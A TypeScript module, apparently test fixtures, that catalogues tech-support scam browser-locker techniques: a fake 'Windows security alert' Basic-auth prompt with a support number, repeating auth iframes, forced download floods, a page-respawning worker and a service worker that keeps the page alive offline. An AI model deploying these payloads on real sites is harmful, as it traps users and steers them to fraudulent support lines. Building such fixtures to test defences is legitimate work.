import type { Technique } from '../technique';
import { NUMBER } from '../words';

const ASK = {
  status: 401,
  headers: {
    'www-authenticate': `Basic realm="Windows security alert, virus found, call Microsoft support ${NUMBER}"`,
  },
  body: `<!doctype html><title>.</title><meta http-equiv="refresh" content="0">`,
};

/** Passwords asked by HTTP, downloads, and pages that come back without a server. */
export const NETWORK: Technique[] = [
  {
    id: 'auth-top',
    does: 'HTTP 401 at the page itself, with the number in the realm',
    at: 'parse',
    page: ASK,
  },
  {
    id: 'auth-frame',
    does: 'HTTP 401 in a frame, again and again',
    at: 'load',
    script: `setInterval(() => { const f = document.createElement('iframe'); f.src = '/ask'; document.body.append(f); }, 300);`,
    files: { '/ask': ASK },
  },
  {
    id: 'download-blob',
    does: 'a flood of downloads of blobs',
    at: 'load',
    script: `let i = 0; const t = setInterval(() => { const a = document.createElement('a');
      a.href = URL.createObjectURL(new Blob(['harmless'])); a.download = 'lock-' + i + '.txt'; a.click();
      if (++i === 30) clearInterval(t); }, 100);`,
  },
  {
    id: 'download-data',
    does: 'a flood of downloads of data: addresses',
    at: 'load',
    script: `let i = 0; const t = setInterval(() => { const a = document.createElement('a');
      a.href = 'data:application/octet-stream,harmless'; a.download = 'lock-' + i + '.bin'; document.body.append(a);
      a.click(); if (++i === 30) clearInterval(t); }, 100);`,
  },
  {
    id: 'download-link',
    does: 'a flood of downloads from the site',
    at: 'load',
    script: `let i = 0; const t = setInterval(() => { const a = document.createElement('a');
      a.href = '/file?' + i; a.download = ''; a.click(); if (++i === 30) clearInterval(t); }, 100);`,
    files: {
      '/file': {
        type: 'application/octet-stream',
        headers: { 'content-disposition': 'attachment; filename="lock.bin"' },
        body: 'harmless',
      },
    },
  },
  {
    id: 'worker-respawn',
    does: 'a worker that has the page built again',
    at: 'load',
    script: `const w = new Worker(URL.createObjectURL(new Blob(['setInterval(() => postMessage(0), 100)'])));
      const all = document.body.innerHTML; w.onmessage = () => { document.body.innerHTML = all; };`,
  },
  {
    id: 'service-worker',
    does: 'a service worker that serves the page without a server',
    at: 'load',
    script: `navigator.serviceWorker.register('/sw.js');`,
    files: {
      '/sw.js': {
        type: 'text/javascript',
        body: `let page; addEventListener('install', (e) => e.waitUntil(fetch('/').then((r) => r.text()).then((t) => { page = t; skipWaiting(); })));
addEventListener('activate', (e) => e.waitUntil(clients.claim()));
addEventListener('fetch', (e) => { if (page && e.request.mode === 'navigate')
  e.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } })); });`,
      },
    },
  },
];
